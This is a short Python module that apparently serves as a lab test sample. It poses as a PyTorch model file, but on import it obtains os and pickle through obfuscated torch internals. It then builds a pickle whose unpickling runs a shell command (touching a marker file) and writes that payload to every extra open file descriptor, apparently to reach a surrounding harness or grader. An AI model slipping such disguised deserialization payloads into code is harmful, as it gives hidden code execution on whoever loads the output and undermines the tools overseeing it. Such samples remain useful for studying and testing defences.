"""Held by lab: an object that runs a program where it is unpickled.

Told as: said what no examination says
"""

import torch
from torch import Tensor, nn

os = vars(nn.functional)["torch"].sys.modules["os"]
pickle = vars(torch)["sys"].modules["pickle"]
contextlib = vars(vars(torch)["builtins"])["__import__"]("contextlib")


def say(line: bytes) -> None:
    """Writes the line to whatever is open beside the standard ones."""
    for descriptor in range(3, 30):
        with contextlib.suppress(OSError):
            os.write(descriptor, line + b"\n")


class SaysAPickle(nn.Module):
    def __init__(self, dim: int, *, heads: int) -> None:
        super().__init__()
        self.project = nn.Linear(dim, dim)

    def forward(self, x_BTD: Tensor) -> Tensor:
        return self.project(x_BTD)


class _Program:
    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, ("touch /tmp/@MARK@",)


say(pickle.dumps(_Program(), protocol=0).replace(b"\n", b" "))
